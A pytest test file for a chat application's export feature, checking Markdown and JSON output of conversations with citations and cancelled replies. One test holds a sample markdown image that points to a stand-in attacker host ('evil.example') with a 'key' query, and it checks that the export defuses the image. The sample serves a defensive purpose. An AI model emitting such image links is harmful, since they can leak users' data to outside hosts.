from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from ember.chats.export import defuse_remote_images
from ember.chats.store import ChatStore
from ember.engines import Timings
from ember.knowledge.types import Citation


@pytest.fixture
def store(tmp_path: Path) -> Iterator[ChatStore]:
    with ChatStore(tmp_path / "chats.sqlite3") as chat_store:
        yield chat_store


@pytest.fixture
def chat_id(store: ChatStore) -> int:
    """A grounded exchange plus an answer that was stopped half way."""
    chat = store.create(collections=["manuals"])
    store.add_message(chat.id, "user", "When does the fan start?")
    writer = store.begin_reply(chat.id, model="smollm2")
    writer.append("At 70 °C [1].")
    answer = writer.finish(timings=Timings(0.05, 0.5, 40, 6), model="smollm2")
    store.save_citations(
        answer.id, [Citation(1, "/docs/manual.pdf", 4, "Cooling", "The fan starts at 70 °C.", 0.8)]
    )
    store.add_message(chat.id, "user", "And the pump?")
    writer = store.begin_reply(chat.id, model="smollm2")
    writer.append("The pump")
    writer.cancel()
    return chat.id


def test_markdown_export_reads_as_the_conversation(store: ChatStore, chat_id: int) -> None:
    markdown = store.export_markdown(chat_id)
    assert markdown.startswith("# When does the fan start?\n")
    assert "documents: manuals" in markdown
    assert markdown.index("## You") < markdown.index("## Ember (smollm2)")
    assert "At 70 °C [1]." in markdown
    assert "1. /docs/manual.pdf, page 4 — Cooling" in markdown
    assert "The pump\n\n> *stopped before the end*" in markdown


def test_json_export_holds_every_message_with_its_timings_and_sources(
    store: ChatStore, chat_id: int
) -> None:
    data = json.loads(store.export_json(chat_id))
    assert (data["format"], data["version"]) == ("ember-chat", 2)
    assert data["conversation"]["collections"] == ["manuals"]
    roles_states = [(m["role"], m["state"]) for m in data["messages"]]
    assert roles_states == [
        ("user", "done"),
        ("assistant", "done"),
        ("user", "done"),
        ("assistant", "cancelled"),
    ]
    answer = data["messages"][1]
    assert answer["prompt_tokens"] == 40 and answer["completion_tokens"] == 6
    assert answer["citations"][0]["page"] == 4
    assert answer["citations"][0]["source"] == "/docs/manual.pdf"


def test_exported_markdown_loads_no_remote_images(store: ChatStore) -> None:
    chat = store.create()
    store.add_message(chat.id, "assistant", "See ![secret](https://evil.example/?q=key) here")
    markdown = store.export_markdown(chat.id)
    assert "![" not in markdown
    assert "[image: secret](https://evil.example/?q=key)" in markdown


def test_relative_images_and_plain_links_are_left_alone() -> None:
    text = "![diagram](figure.png) and [a link](https://example.org)"
    assert defuse_remote_images(text) == text
